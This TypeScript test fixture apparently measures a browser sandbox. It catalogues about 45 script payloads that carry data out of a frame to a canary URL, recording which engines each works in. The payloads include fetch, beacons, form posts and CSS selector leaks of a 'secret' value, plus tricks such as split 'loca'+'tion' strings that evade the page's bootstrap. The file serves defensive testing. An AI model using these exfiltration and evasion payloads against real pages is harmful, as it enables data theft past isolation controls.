// Ways in which a page carries data out of its frame. Each is a script that knows `target(name)`, a URL at the canary,
// and `own`, the real location: written so that nothing of the bootstrap stands in its way.

import type { engine } from '../helpers/engine.ts';

type Engines = readonly (typeof engine.name)[];
const ALL: Engines = ['chromium', 'firefox', 'webkit'];
const NOWHERE: Engines = [];

export interface Attack {
  readonly name: string;
  readonly script: string;
  /** It tries to leave its frame, so the frame is removed. */
  readonly leaves?: boolean;
  /** It runs in a frame of its own within the page: a realm that no bootstrap has touched. */
  readonly child?: boolean;
  /** Engines in which it works from a frame that has only a sandbox: the control. As measured. */
  readonly works: Engines;
}

const markup = (html: string): string => `document.body.insertAdjacentHTML('beforeend', \`${html}\`);`;
const url = (name: string): string => `\${target('${name}')}`;
const add = (tag: string, setUp: string): string =>
  `const added = document.createElement('${tag}'); ${setUp} document.head.append(added);`;
/** Clicks past the listener of the bootstrap. */
const click = `const link = document.querySelector('#link');
  link.addEventListener('click', (event) => event.stopImmediatePropagation());
  link.click();`;
const documentOf = (name: string): string => `'<img src="' + target('${name}') + '">'`;

export const ATTACKS: readonly Attack[] = [
  { name: 'location', script: `own.href = target('location');`, leaves: true, works: ALL },
  { name: 'replace', script: `own.replace(target('replace'));`, leaves: true, works: ALL },
  { name: 'open-self', script: `window.open(target('open-self'), '_self');`, leaves: true, works: ALL },
  {
    name: 'data-document',
    script: `own.href = 'data:text/html,' + ${documentOf('data-document')};`,
    leaves: true,
    works: ALL,
  },
  {
    name: 'blob-document',
    script: `own.href = URL.createObjectURL(new Blob([${documentOf('blob-document')}], { type: 'text/html' }));`,
    leaves: true,
    works: ALL,
  },
  {
    name: 'meta-refresh',
    script: markup(`<meta http-equiv="refresh" content="0;url=${url('meta-refresh')}">`),
    leaves: true,
    works: ALL,
  },
  { name: 'link', script: markup(`<a id="link" href="${url('link')}">x</a>`) + click, leaves: true, works: ALL },
  {
    name: 'download',
    script: markup(`<a id="link" download href="${url('download')}">x</a>`) + click,
    leaves: true,
    works: ALL,
  },
  {
    name: 'ping',
    leaves: true,
    script: markup(`<a id="link" href="#x" ping="${url('ping')}">x</a>`) + click,
    works: ['chromium', 'webkit'],
  },
  {
    name: 'child-link',
    script: markup(`<a id="link" href="${url('child-link')}">x</a>`) + click,
    child: true,
    works: ALL,
  },
  {
    name: 'child-form',
    script: `${markup(`<form action="${url('child-form')}"><input name="a"></form>`)} document.forms[0].submit();`,
    child: true,
    works: ALL,
  },
  {
    name: 'child-post',
    script: `${markup(`<form method="post" action="${url('child-post')}"></form>`)} document.forms[0].submit();`,
    child: true,
    works: ALL,
  },
  { name: 'child-location', script: `own.href = target('child-location');`, child: true, works: ALL },
  { name: 'child-parent', script: `parent['loca' + 'tion'] = target('child-parent');`, child: true, works: NOWHERE },
  { name: 'fetch', script: `fetch(target('fetch'), { mode: 'no-cors' });`, child: true, works: ALL },
  {
    name: 'xhr',
    script: `const request = new XMLHttpRequest(); request.open('GET', target('xhr')); request.send();`,
    child: true,
    works: ALL,
  },
  { name: 'beacon', script: `navigator.sendBeacon(target('beacon'), 'x');`, child: true, works: ALL },
  { name: 'event-source', script: `new EventSource(target('event-source'));`, works: ALL },
  { name: 'web-socket', script: `new WebSocket(target('web-socket').replace('http', 'ws'));`, works: ALL },
  { name: 'image', script: `new Image().src = target('image');`, works: ALL },
  { name: 'style-image', script: markup(`<style>body { background: url(${url('style-image')}) }</style>`), works: ALL },
  { name: 'style-import', script: markup(`<style>@import "${url('style-import')}";</style>`), works: ALL },
  { name: 'style-sheet', script: markup(`<link rel="stylesheet" href="${url('style-sheet')}">`), works: ALL },
  {
    name: 'selector',
    script: markup(`<style>input[value^="s"] { background: url(${url('selector')}) }</style><input value="secret">`),
    works: ALL,
  },
  { name: 'font', script: `new FontFace('x', 'url(' + target('font') + ')').load().catch(() => 0);`, works: ALL },
  { name: 'script', script: add('script', `added.src = target('script');`), works: ALL },
  { name: 'module', script: `import(target('module')).catch(() => 0);`, works: ALL },
  {
    name: 'worker',
    script: `new Worker('data:text/javascript,' + encodeURIComponent('fetch("' + target('worker') + '")'));`,
    works: ALL,
  },
  {
    name: 'shared-worker',
    script: `new SharedWorker('data:text/javascript,' + encodeURIComponent('fetch("' + target('shared-worker') + '")'));`,
    works: ['webkit'],
  },
  {
    name: 'prefetch',
    script: add('link', `added.rel = 'prefetch'; added.href = target('prefetch');`),
    works: ['chromium', 'firefox'],
  },
  { name: 'preload', script: markup(`<link rel="preload" as="image" href="${url('preload')}">`), works: ALL },
  {
    name: 'module-preload',
    script: markup(`<link rel="modulepreload" href="${url('module-preload')}">`),
    works: ['chromium', 'webkit'],
  },
  { name: 'prerender', script: markup(`<link rel="prerender" href="${url('prerender')}">`), works: NOWHERE },
  { name: 'manifest', script: markup(`<link rel="manifest" href="${url('manifest')}">`), works: NOWHERE },
  { name: 'icon', script: markup(`<link rel="icon" href="${url('icon')}">`), works: NOWHERE },
  {
    name: 'speculation',
    script: add(
      'script',
      `added.type = 'speculationrules';
       added.textContent = JSON.stringify({ prefetch: [{ urls: [target('speculation')], eagerness: 'immediate' }] });`,
    ),
    works: NOWHERE,
  },
  { name: 'media', script: markup(`<video src="${url('media')}" autoplay></video>`), works: ALL },
  { name: 'poster', script: markup(`<video poster="${url('poster')}"></video>`), works: ALL },
  { name: 'object', script: markup(`<object data="${url('object')}"></object>`), works: ALL },
  { name: 'embed', script: markup(`<embed src="${url('embed')}">`), works: ALL },
  { name: 'svg-image', script: markup(`<svg><image href="${url('svg-image')}"/></svg>`), works: ALL },
  { name: 'frame', script: markup(`<iframe src="${url('frame')}"></iframe>`), works: ALL },
  {
    name: 'frame-window',
    script: `${markup('<iframe></iframe>')} frames[frames.length - 1]['loca' + 'tion'] = target('frame-window');`,
    works: ALL,
  },
  {
    name: 'window-image',
    script: `${markup('<iframe></iframe>')} new frames[frames.length - 1].Image().src = target('window-image');`,
    works: NOWHERE,
  },
  { name: 'top', script: `window.top['loca' + 'tion'] = target('top');`, works: NOWHERE },
  { name: 'popup', script: `window.open(target('popup'));`, works: NOWHERE },
  {
    name: 'report',
    script: `document.head.insertAdjacentHTML('beforeend', \`<meta http-equiv="Content-Security-Policy"
      content="img-src 'none'; report-uri ${url('report')}">\`); new Image().src = 'https://blocked.invalid/';`,
    works: NOWHERE,
  },
];

/** A page that runs one attack once it has loaded. */
export function attackPage({ script, child }: Attack, targets: string): string {
  const run = `const target = (name) => ${JSON.stringify(targets)} + name;
    const own = window['loca' + 'tion'];
    addEventListener('load', () => setTimeout(() => { ${script} }, 50));`;
  const page = `<!doctype html><html><head></head><body><script>${run}</script></body></html>`;
  if (!child) return page;
  const inner = page.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
  return `<!doctype html><html><head></head><body><iframe srcdoc="${inner}"></iframe></body></html>`;
}
